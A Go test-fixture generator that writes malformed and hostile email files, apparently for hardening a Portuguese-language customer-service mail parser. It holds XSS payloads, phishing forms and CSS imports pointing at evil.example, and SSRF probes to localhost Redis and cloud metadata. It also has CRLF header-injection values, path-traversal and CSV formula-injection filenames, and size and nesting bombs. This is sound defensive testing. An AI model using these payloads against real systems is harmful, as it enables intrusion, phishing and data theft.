package hostile

import (
	"fmt"
	"strings"
)

func (w *writer) malformed() {
	w.add("m01-no-message-id.eml", "From: a@example.net\r\nTo: sac@empresa.example\r\nSubject: sem message-id\r\n\r\noi\r\n")
	w.add("m02-two-message-ids.eml", w.head(head{extra: "Message-ID: <segundo@example.net>\r\n" + text}), "oi")
	w.add("m03-no-from.eml", "To: sac@empresa.example\r\nSubject: sem from\r\nMessage-ID: <nofrom@example.net>\r\n\r\noi")
	w.add("m04-two-from.eml", w.head(head{extra: "From: Agente <agente@empresa.example>\r\n" + text}), "oi")
	w.add("m05-from-group.eml", w.head(head{extra: text, from: "undisclosed-recipients:;"}), "oi")
	w.add("m06-header-only.eml", "From: a@example.net\r\nTo: sac@empresa.example\r\nSubject: so cabecalho\r\nMessage-ID: <hdr@example.net>")
	w.add("m07-empty.eml")
	w.add("m08-nul.eml", w.head(head{extra: text}), "antes\x00depois\x00")
	w.add("m09-bare-cr-lf.eml", w.head(head{extra: text}), "l1\rl2\nl3\r\n.\r\nl4\n.\nl5")
	w.add("m10-line-1MB.eml", w.head(head{extra: text}), strings.Repeat("A", 1_000_000))
	w.add("m11-subject-64k.eml", w.head(head{extra: text, subject: strings.Repeat("S", 65536)}), "oi")
	w.add("m12-10000-headers.eml", w.head(head{extra: repeat(10000, func(i int) string { return fmt.Sprintf("X-%d: v\r\n", i) }) + text}), "oi")
	w.add("m13-2000-rcpt.eml", w.head(head{extra: "Cc: " + strings.TrimSuffix(repeat(2000, func(i int) string {
		return fmt.Sprintf("u%d@example.org, ", i)
	}), ", ") + "\r\n" + text}), "oi")
	w.add("m14-2000-references.eml", w.head(head{extra: "References: " + strings.TrimSuffix(repeat(2000, func(i int) string {
		return fmt.Sprintf("<r%d@example.org> ", i)
	}), " ") + "\r\n" + text}), "oi")
	const deep = 2000
	w.add("m15-nest-2000.eml", w.head(head{}),
		repeat(deep, func(i int) string {
			return fmt.Sprintf("Content-Type: multipart/mixed; boundary=\"b%d\"\r\n\r\n--b%[1]d\r\n", deep-1-i)
		}), "Content-Type: text/plain\r\n\r\nfundo\r\n",
		repeat(deep, func(i int) string { return fmt.Sprintf("--b%d--\r\n", i) }))
	w.add("m16-parts-20000.eml", w.head(head{extra: "Content-Type: multipart/mixed; boundary=x\r\n\r\n"}),
		strings.Repeat("--x\r\nContent-Type: text/plain\r\n\r\np\r\n", 20000), "--x--\r\n")
	w.add("m17-rfc822-nest-500.eml", w.head(head{}),
		strings.Repeat("Content-Type: message/rfc822\r\n\r\nFrom: a@b.c\r\nSubject: n\r\nMIME-Version: 1.0\r\n", 500), text, "fim")
	w.add("m18-no-closing-boundary.eml", w.head(head{extra: "Content-Type: multipart/mixed; boundary=x\r\n\r\n"}),
		"--x\r\nContent-Type: text/plain\r\n\r\ncorpo sem fim")
	w.add("m19-boundary-missing.eml", w.head(head{extra: "Content-Type: multipart/mixed\r\n\r\n"}), "corpo")
	eightBit := func(charset string) string {
		return w.head(head{extra: "Content-Type: text/plain; charset=" + charset + "\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"})
	}
	w.add("m20-unknown-charset.eml", eightBit("x-inexistente"), latin1("ação"))
	w.add("m21-latin1-declared-utf8.eml", w.head(head{extra: text}), latin1("Reclamação: não recebi à tempo"))
	w.add("m22-utf8-declared-latin1.eml", eightBit("iso-8859-1"), "Reclamação")
	w.add("m23-cp1252-quotes-as-latin1.eml", eightBit("iso-8859-1"), "\x93aspas\x94 \x96 travess\xe3o \x80 10")
	w.add("m24-raw8bit-subject.eml", w.head(head{extra: text, subject: latin1("Reclamação não")}), "oi")
	w.add("m25-split-encoded-word.eml", w.head(head{extra: text, subject: "=?UTF-8?B?UmVjbGFtYcOn?= =?UTF-8?B?w6Nv?="}), "oi")
	w.add("m26-split-mid-char.eml", w.head(head{extra: text, subject: "=?UTF-8?Q?Reclama=C3?= =?UTF-8?Q?=A7=C3=A3o?="}), "oi")
	w.add("m27-smtputf8.eml", w.head(head{extra: text, from: "José <josé@exâmple.com.br>"}), "oi")
	w.add("m28-qp-bad.eml", w.head(head{extra: "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n"}),
		"50=% de desconto =ZZ fim =")
	w.add("m29-b64-bad.eml", w.head(head{extra: "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n"}), "b2k*@@\r\nIG11bmRv")
	w.add("m30-date-1969-2099.eml", strings.Replace(w.head(head{extra: text}), "Mon, 02 Mar 2026", "Fri, 31 Dec 2099", 1), "oi")
}

func (w *writer) automatic() {
	for _, l := range []struct{ name, header string }{
		{"ooo", "Auto-Submitted: auto-replied\r\nX-Auto-Response-Suppress: All\r\n"},
		{"autogen", "Auto-Submitted: auto-generated\r\n"},
		{"bulk", "Precedence: bulk\r\n"},
		{"lst", "List-Id: <x.example.org>\r\nPrecedence: list\r\n"},
		{"exch", "X-Auto-Response-Suppress: DR, RN, NRN, OOF, AutoReply\r\n"},
		{"deliveredto", "Delivered-To: Autoresponder\r\n"},
		{"xar", "X-Autoreply: yes\r\n"},
		{"retnull", "Return-Path: <>\r\n"},
	} {
		w.add("l-"+l.name+".eml", w.head(head{extra: l.header + text, subject: "Resposta automática: fora do escritório"}), "Estou de ferias")
	}
	w.add("l-self.eml", w.head(head{extra: text, from: "SAC <sac@empresa.example>"}), "de mim para mim")
	w.add("l-mailer-daemon-no-dsn.eml", w.head(head{extra: text, from: "MAILER-DAEMON@mx.example", subject: "Undelivered Mail Returned to Sender"}), "user unknown")
}

func (w *writer) headers() {
	w.add("h1-from-crlf-injection.eml", w.head(head{extra: text, from: "=?utf-8?Q?a=0D=0ABcc=3A_vitima=40example=2Eorg?= <a@example.net>"}), "oi")
	w.add("h2-subject-crlf-injection.eml", w.head(head{extra: text, subject: "=?utf-8?B?b2kNCkJjYzogdml0aW1hQGV4YW1wbGUub3Jn?="}), "oi")
	w.add("h3-msgid-weird.eml", w.head(head{extra: text, id: `<"a b\"<script>'; DROP TABLE x;--%s"@example.net>`}), "oi")
	w.add("h4-from-2-addr.eml", w.head(head{extra: text, from: `"agente@empresa.example" <mal@evil.example>`}), "oi")
	w.add("h5-replyto-agent.eml", w.head(head{extra: "Reply-To: agente@empresa.example\r\n" + text}), "oi")
	// The first two letters of the domain are Cyrillic.
	w.add("h6-homograph.eml", w.head(head{extra: text, from: "Banco <suporte@\u0435\u0445ample.com>"}), "oi")
	const rlo = "nota%E2%80%AEfdp.exe"
	w.add("h7-rlo-filename.eml", w.head(head{extra: "Content-Type: application/octet-stream; name*=utf-8''" + rlo +
		"\r\nContent-Disposition: attachment; filename*=utf-8''" + rlo + "\r\nContent-Transfer-Encoding: base64\r\n\r\n"}), "TVo=")
}

func (w *writer) names() {
	for i, name := range []string{"../../../../etc/cron.d/x", `..\\..\\x.exe`, "/etc/passwd", "CON", `a\0.png`, "x.php.png", ".htaccess",
		strings.Repeat("a", 4000) + ".txt", `"; filename=y.exe`, "%2e%2e%2fx", "", "x.pht", "=cmd|calc.csv"} {
		w.add(fmt.Sprintf("f%02d-filename.eml", i), w.head(head{extra: "Content-Type: multipart/mixed; boundary=x\r\n\r\n"}),
			"--x\r\n", text, "oi\r\n--x\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=\"", name,
			"\"\r\n\r\nconteudo\r\n--x--\r\n")
	}
}

func (w *writer) markup() {
	for i, bad := range []string{
		`<script>alert(1)</script>`,
		`<img src=x onerror=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
		`<a href="java&#x0A;script:alert(1)">x</a>`,
		`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
		`<form action=https://evil.example><input name=senha></form>`,
		`<style>@import url(//evil.example/x)</style>`,
		`<base href=//evil.example/>`,
		`<meta http-equiv=refresh content="0;url=//evil.example">`,
		`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
		`<div style="position:fixed;inset:0;z-index:9999;background:#fff">login</div>`,
		`<scr<script>ipt>alert(1)</scr</script>ipt>`,
		`<object data=x.swf>`,
		`<img src="http://127.0.0.1:6379/">`,
		`<img src="http://169.254.169.254/latest/meta-data/">`,
		`<img src="cid:../../etc/passwd">`,
		`<input autofocus onfocus=alert(1)>`,
		`<details open ontoggle=alert(1)>x`,
		`<p id=body name=cookie>x`,
	} {
		w.add(fmt.Sprintf("x%02d-html.eml", i), w.head(head{extra: markup}), "<html><body>Ola ", bad, " fim-visivel</body></html>")
	}
	w.add("x90-5001-links.eml", w.head(head{extra: markup}), strings.Repeat(`<a href="https://e.example/">l</a>`, 5001))
	w.add("x91-html-5MB-nest.eml", w.head(head{extra: markup}), strings.Repeat("<div>", 200000), "x")
	w.add("x92-redos-quote.eml", w.head(head{extra: text}), strings.Repeat(">", 50000), "\r\nOn ", strings.Repeat("a", 50000), " wrote:")
	w.add("x93-redos-subject.eml", w.head(head{extra: text, subject: strings.Repeat("Re: ", 5000) + "fim"}), "oi")
	w.add("x94-bidi.eml", w.head(head{extra: text, subject: "\u202eoproduto"}), "\u202e\u2066")
}
